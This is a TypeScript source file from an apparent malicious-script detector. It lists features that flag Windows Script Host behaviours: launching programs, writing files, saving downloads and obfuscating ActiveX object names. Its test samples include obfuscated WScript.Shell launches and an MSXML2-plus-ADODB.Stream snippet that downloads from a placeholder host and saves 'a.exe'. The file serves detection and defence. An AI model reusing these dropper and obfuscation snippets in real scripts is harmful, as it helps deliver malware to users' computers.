import type { Feature, Finder } from './feature.ts';
import { allOf, anyOf, effects } from './finders.ts';

const calls = (path: RegExp): Finder =>
  effects(({ kind, text }) => kind === 'call' && path.test(text));

const running = calls(
  /^(?:wscript\.shell\.(?:run|exec)|shell\.application\.(?:shellexecute|open))$/,
);
const byInstrumentation = calls(/^(?:winmgmts|.*win32_process).*\.create$/);
const saving = calls(/^adodb\.stream\.savetofile$/);
const writing = calls(/^scripting\.filesystemobject\.\w+\(\)\.write(?:line)?$/);
const fetching = calls(
  /^(?:msxml2|microsoft|winhttp)[\w.]*(?:http|winhttprequest)[\w.]*\.(?:open|send)$/,
);

/** Objects with which a script leaves the browser. */
const powerful =
  /^(?:wscript\.shell|shell\.application|adodb\.stream|scripting\.filesystemobject)$/;

/** Names of such objects that the script does not contain as they are. */
const hiddenNames: Finder = (facts) =>
  effects(
    ({ kind, text }) =>
      kind === 'object' &&
      powerful.test(text) &&
      !facts.reading.source.toLowerCase().includes(text),
  )(facts);

/** Scripts for the script host of Windows: what they do to the computer. */
export const systemFeatures: readonly Feature[] = [
  {
    id: 'program-run',
    what: 'Runs a program on the computer of the visitor',
    points: 100,
    shows: ['run', 'decisive'],
    find: anyOf(running, byInstrumentation),
    samples: {
      matching: [
        `var n = ['W', 'Script.', 'Sh', 'ell']; new ActiveXObject(n.join(''))['R' + 'un']('calc');`,
        `var s = WScript.CreateObject('WScript.Shell'); function go() { s.Exec('notepad'); }`,
      ],
      other: [
        `new ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%');`,
        `app.Run('calc');`,
      ],
    },
  },
  {
    id: 'file-saved',
    what: 'Writes a file to the disk of the visitor',
    points: 60,
    shows: ['hidden'],
    find: anyOf(saving, writing),
    samples: {
      matching: [
        `var a = new ActiveXObject('ADODB' + '.Stream'); a.open(); a.write(x.responseBody); a.saveToFile('a.exe', 2);`,
        `new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('a.js').Write(code);`,
      ],
      other: [`new ActiveXObject('Scripting.FileSystemObject').FileExists('a.js');`],
    },
  },
  {
    id: 'download-saved',
    what: 'Saves what it downloads as a file',
    points: 60,
    shows: ['run', 'hidden'],
    find: allOf(saving, fetching),
    samples: {
      matching: [
        `var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://x.test/a', false); x.send(); var a = new ActiveXObject('ADODB.Stream'); a.write(x.responseBody); a.saveToFile('a.exe', 2);`,
      ],
      other: [`var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', '/a', true); x.send();`],
    },
  },
  {
    id: 'system-object-hidden',
    what: 'Hides the name of an object of the operating system that it creates',
    points: 60,
    shows: ['hidden'],
    find: hiddenNames,
    samples: {
      matching: [`new ActiveXObject('llehS.tpircSW'.split('').reverse().join(''));`],
      other: [`new ActiveXObject('WScript.Shell');`, `new ActiveXObject('Msxml2' + '.XMLHTTP');`],
    },
  },
];
